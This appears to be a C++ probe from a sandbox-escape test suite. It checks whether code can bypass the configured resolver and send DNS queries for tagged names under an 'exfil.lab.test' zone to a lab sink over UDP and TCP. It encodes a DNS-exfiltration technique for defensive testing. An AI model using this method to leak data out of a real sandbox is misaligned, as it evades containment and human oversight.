// dns.resolver_direct — query the lab DNS sink directly (not the resolver the
// sandbox configured) over UDP and TCP 53, IPv4 and IPv6, for
// <tag>-<path>.exfil.lab.test. Escaped when the DNS sink logs the name; the
// control run expects each path's name there.
#include "../../lab/lab_plan.hpp"
#include "../probe.hpp"
#include "../support/dns.hpp"

namespace lab = bottle::escape::lab;
namespace dns = bottle::escape::probe::support::dns;

BOTTLE_PROBE(dns_resolver_direct, "dns.resolver_direct",
             "A queries for <tag>-<path>.exfil.lab.test straight to the lab DNS sink over UDP and TCP 53",
             bottle::escape::probe::scoring::sink, "udp", "tcp") {
    struct way {
        std::string_view server;
        bool tcp;
        const char* label;
    };
    const way ways[] = {{lab::dns_v4, false, "udp"}, {lab::dns_v4, true, "tcp"}, {lab::dns_v6, false, "udp6"}, {lab::dns_v6, true, "tcp6"}};
    for (const auto& w : ways) {
        // One label per path (<tag>-udp6...), whole in the query's wire form.
        const std::string path_tag = ctx.tag + "-" + w.label;
        const std::string name = path_tag + "." + std::string(lab::exfil_zone);
        const std::string q = dns::build_query(dns::random_id(), {{name, dns::type_a, 1}});
        const auto e = w.tcp ? dns::query_tcp(w.server, q, 500) : dns::query_udp(w.server, q, 400);
        const bool v6 = w.server.find(':') != std::string_view::npos;
        rep.record(w.tcp ? "tcp" : "udp",
                   std::string(w.tcp ? "DNS over TCP to " : "DNS over UDP to ") + (v6 ? "[" : "") + std::string(w.server) +
                       (v6 ? "]" : "") + ":53, A " + name,
                   e.outcome, e.made, e.sent);
        rep.expect(path_tag);
        if (e.answer.valid) rep.observe(std::string(w.server) + " answered: " + e.answer.summary);
    }
}
